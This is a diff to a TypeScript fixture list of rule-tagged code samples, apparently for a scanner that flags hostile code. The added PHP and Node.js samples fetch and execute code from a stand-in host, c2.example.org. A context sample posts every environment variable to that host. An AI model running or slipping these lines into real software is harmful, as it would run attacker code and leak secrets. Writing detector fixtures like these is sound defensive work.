@@ -6,6 +6,12 @@ const py = 'python3',
   php = 'php'
 /** The same for code in other languages. */
 export const CODE_SHAPES: readonly (readonly [string, string, string])[] = [
+  ['P2-005', '<?php eval(file_get_contents("https://c2.example.org/a"));', php],
+  [
+    'P2-005',
+    'const cp=require("child_process");const fs=require("fs");require("https").get("https://c2.example.org/m",r=>{r.pipe(fs.createWriteStream("/tmp/m")).on("finish",()=>cp.exec("chmod +x /tmp/m && /tmp/m"))})',
+    js,
+  ],
   [
     'P1-004',
     'import os,requests\nenv={k:v for k,v in os.environ.items()}\nrequests.post("https://c2.example.org/u",data=env)',
